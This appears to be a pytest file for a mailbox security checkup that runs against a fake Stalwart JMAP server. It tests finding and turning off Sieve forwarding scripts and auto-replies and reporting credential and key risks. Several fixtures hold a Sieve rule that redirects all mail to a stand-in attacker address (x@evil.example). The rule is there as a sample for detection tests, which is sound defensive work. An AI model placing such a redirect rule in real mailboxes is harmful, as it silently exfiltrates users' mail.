"""The checkup against the contract server, both generations: read the filters
(one request, texts included), turn a script and the auto-reply off (the change
and the re-read in one request), lost answers re-read, rights missing reported
as "cannot check"; and the findings of the demo accounts."""
from __future__ import annotations

import subprocess

import pytest

from app import checkup, stalwart
from app.auth import Basic
from app.checkup.kinds import Area, FindingKind as K, Risk, Scope
from app.errors import AnswerLost, OutcomeUnknown
from app.http import urllib_fetch, with_timeout
from app.stalwart import sieve
from asyncio import run

from tests.fakestalwart import FakeStalwart

PW = {"alice": "correct horse battery staple", "ldap": "ldap directory password 7",
      "totp": "totp account password 42", "limited": "limited rights password 9"}


@pytest.fixture(params=["0.16", "legacy"])
def srv(request):
    s = FakeStalwart(generation=request.param, cors=True).start()
    yield s
    s.stop()


def login(srv, who):
    return who if srv.legacy else f"{who}@example.com"


def account(srv, who="alice", secret=None, timeout=10.0):
    creds = Basic(login(srv, who), secret or PW[who])
    return run(stalwart.sign_in(srv.url, creds, with_timeout(urllib_fetch, timeout)))


def conn(acct):
    return acct._conn  # the account's Connection (what SecurityAccount will pass)


def test_read_filters_in_one_request(srv):
    a = account(srv)
    before = srv.request_count("/jmap/", "POST")
    f = run(sieve.read_filters(conn(a)))
    assert srv.request_count("/jmap/", "POST") == before + 1 and srv.request_count("/jmap/download") == 0
    assert f.scripts_access.ok and f.auto_reply_access.ok
    assert [(s.name, s.active) for s in f.scripts] == [("Newsletters", True)]
    assert b"fileinto" in f.active.content
    assert f.auto_reply == sieve.AutoReply(False) and "alice@example.com" in f.addresses
    assert f.state
    c = checkup.run(a.state, f)
    assert not c.of(K.SCRIPT_FORWARDS) and not c.of(K.SCRIPT_UNREADABLE) and not c.of(K.AUTO_REPLY)


def test_demo_forwarding_and_auto_reply_accounts(srv):
    totp_login = login(srv, "totp")
    _id, secret = srv.add_credential(totp_login, description="tests",
                                     **({} if srv.legacy else {"expires_in_days": 300}))
    a = account(srv, "totp", secret)
    c = checkup.run(a.state, run(sieve.read_filters(conn(a))))
    (fwd,) = c.of(K.SCRIPT_FORWARDS)
    assert fwd.risk is Risk.HIGH and fwd.subject.name == "Forward everything"
    assert [(t.address, t.scope) for t in fwd.targets] == [("collector@elsewhere.example", Scope.OUTSIDE)]
    assert c.of(K.SCRIPT_AUTO_REPLY) and c.findings[0] is fwd
    b = account(srv, "ldap")
    c = checkup.run(b.state, run(sieve.read_filters(conn(b))))
    (vac,) = c.of(K.AUTO_REPLY)
    assert vac.params["subject"] == "On leave" and not c.of(K.SCRIPT_AUTO_REPLY)


def test_download_when_blob_get_is_not_permitted(srv):
    acct = srv.accounts[login(srv, "alice")]
    acct.permissions.discard("jmap-blob-get" if srv.legacy else "jmapBlobGet")
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    assert srv.request_count("/jmap/download") == 1 and b"fileinto" in f.active.content
    # includes: every script's text is fetched
    srv.add_sieve_script(login(srv, "alice"), "main", 'require "include"; include "fwd";', active=True)
    srv.add_sieve_script(login(srv, "alice"), "fwd", 'redirect "x@evil.example";')
    f = run(sieve.read_filters(conn(a)))
    assert all(s.content is not None for s in f.scripts)
    (fwd,) = checkup.run(a.state, f).of(K.SCRIPT_FORWARDS)
    assert fwd.subject.name == "main" and fwd.targets[0].via == "fwd"


def test_no_sieve_rights_is_cannot_check(srv):
    acct = srv.accounts[login(srv, "alice")]
    acct.permissions -= ({"jmap-sieve-script-get", "jmap-vacation-response-get"} if srv.legacy
                         else {"jmapSieveScriptGet", "jmapVacationResponseGet"})
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    assert f.scripts is None and not f.scripts_access.ok and f.auto_reply is None
    assert f.scripts_access.permissions == (("jmap-sieve-script-get",) if srv.legacy else ("jmapSieveScriptGet",))
    c = checkup.run(a.state, f)
    assert {x.area for x in c.of(K.CANNOT_CHECK)} >= {Area.FILTERS, Area.AUTO_REPLY} and not c.clean


def test_turn_off_script_with_the_reread(srv):
    srv.add_sieve_script(login(srv, "alice"), "Fwd", 'redirect "x@evil.example";', active=True)
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    fwd = f.active
    before = srv.request_count("/jmap/", "POST")
    ch = run(sieve.turn_off_script(conn(a), fwd.id, f.state))
    assert srv.request_count("/jmap/", "POST") == before + 1 and ch.confirmed == "answer"
    assert ch.filters.active is None and ch.filters.find(fwd.id) is not None  # kept, inactive
    assert not checkup.run(a.state, ch.filters).of(K.SCRIPT_FORWARDS)


def test_turn_off_script_refuses_when_the_filters_changed(srv):
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    sid = srv.add_sieve_script(login(srv, "alice"), "Other", 'keep;', active=True)
    with pytest.raises(sieve.FiltersChanged) as e:
        run(sieve.turn_off_script(conn(a), f.active.id, f.state))
    assert e.value.state.active.id == sid and e.value.key == "err.checkup.filters_changed"
    assert srv.accounts[login(srv, "alice")].active_script is not None  # nothing was turned off


def test_turn_off_script_without_state_reads_first_and_skips_an_inactive_one(srv):
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    ch = run(sieve.turn_off_script(conn(a), f.active.id))
    assert ch.filters.active is None
    again = run(sieve.turn_off_script(conn(a), f.scripts[0].id))
    assert again.filters.active is None and again.confirmed == "checked"


def test_turn_off_script_lost_answer_is_reread(srv):
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    srv.faults.set(path_prefix="/jmap/", drop=True, times=1, apply_first=True)
    ch = run(sieve.turn_off_script(conn(a), f.active.id, f.state))
    assert ch.confirmed == "checked" and ch.filters.active is None
    srv.add_sieve_script(login(srv, "alice"), "Fwd", 'redirect "x@evil.example";', active=True)
    f = run(sieve.read_filters(conn(a)))
    srv.faults.set(path_prefix="/jmap/", status=500, times=1)  # not applied
    with pytest.raises(AnswerLost) as e:
        run(sieve.turn_off_script(conn(a), f.active.id, f.state))
    assert e.value.state.active.name == "Fwd"
    srv.faults.set(path_prefix="/jmap/", status=503, times=2)  # the re-read fails too
    with pytest.raises(OutcomeUnknown) as e:
        run(sieve.turn_off_script(conn(a), f.active.id, f.state))
    assert e.value.key == "err.outcome_unknown.filter"


def test_turn_off_auto_reply(srv):
    a = account(srv, "ldap")
    ch = run(sieve.turn_off_auto_reply(conn(a)))
    assert ch.filters.auto_reply.enabled is False and ch.filters.auto_reply.subject == "On leave"
    assert not checkup.run(a.state, ch.filters).of(K.AUTO_REPLY)
    srv.set_vacation_response(login(srv, "ldap"), enabled=True, subject="Again")
    srv.faults.set(path_prefix="/jmap/", drop=True, times=1, apply_first=True)
    ch = run(sieve.turn_off_auto_reply(conn(a)))
    assert ch.confirmed == "checked" and not ch.filters.auto_reply.enabled


def test_turn_off_not_permitted(srv):
    acct = srv.accounts[login(srv, "alice")]
    acct.permissions -= ({"jmap-sieve-script-set"} if srv.legacy else
                         {"jmapSieveScriptCreate", "jmapSieveScriptUpdate", "jmapSieveScriptDestroy"})
    a = account(srv)
    f = run(sieve.read_filters(conn(a)))
    if not srv.legacy:  # 0.16 reports the permissions: the fix says so before anything is sent
        assert not f.change_scripts.ok
    with pytest.raises(Exception) as e:
        run(sieve.turn_off_script(conn(a), f.active.id, f.state))
    assert getattr(e.value, "error_type", None) == "forbidden" and e.value.state.active is not None


def test_credentials_and_key_findings_from_the_server(srv, tmp_path):
    who = login(srv, "alice")
    if not srv.legacy:
        srv.add_credential(who, "api_key", "CI")                               # full rights, no end
        srv.add_credential(who, "app_password", "Soon", expires_in_days=10,
                           permissions={"@type": "Replace", "permissions": {"jmapEmailGet": True}})
    srv.add_credential(who, "app_password", "Twin", **({} if srv.legacy else {"expires_in_days": 100}))
    srv.add_credential(who, "app_password", "twin", **({} if srv.legacy else {"expires_in_days": 100}))
    home = tmp_path / "gpg"
    home.mkdir(mode=0o700)
    env = {"GNUPGHOME": str(home), "PATH": "/usr/bin:/bin"}
    gpg = ["gpg", "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]
    subprocess.run(gpg + ["--quick-gen-key", "Alice <alice@example.com>", "future-default", "default", "10d"],
                   env=env, check=True, capture_output=True)
    key = subprocess.run(gpg + ["--armor", "--export", "alice@example.com"], env=env, check=True,
                         capture_output=True).stdout.decode()
    srv.add_public_key(who, key)
    a = account(srv)
    c = checkup.run(a.state, run(sieve.read_filters(conn(a))))
    got = {(f.kind, f.subject.name) for f in c.findings}
    assert (K.CREDENTIAL_SAME_NAME, "Twin") in got and (K.TWO_FACTOR_OFF, "") in got
    assert (K.KEY_CONFIRM_PRIVATE, "My key" if not srv.legacy else "") in got
    if srv.legacy:
        assert (K.CREDENTIAL_UNBOUNDED, "Twin") in got
        assert (K.CANNOT_CHECK, "") in {(f.kind, f.subject.name) for f in c.of(K.CANNOT_CHECK)}
        assert [f.area for f in c.of(K.CANNOT_CHECK)] == [Area.ENCRYPTION_KEY]
    else:
        assert (K.CREDENTIAL_UNBOUNDED, "CI") in got and (K.CREDENTIAL_EXPIRING, "Soon") in got
        (exp,) = c.of(K.KEY_EXPIRING)
        assert exp.params["days"] in (9, 10)    # from the key's own end date (expiresAt is empty)
        assert c.findings[0].kind is K.CREDENTIAL_UNBOUNDED
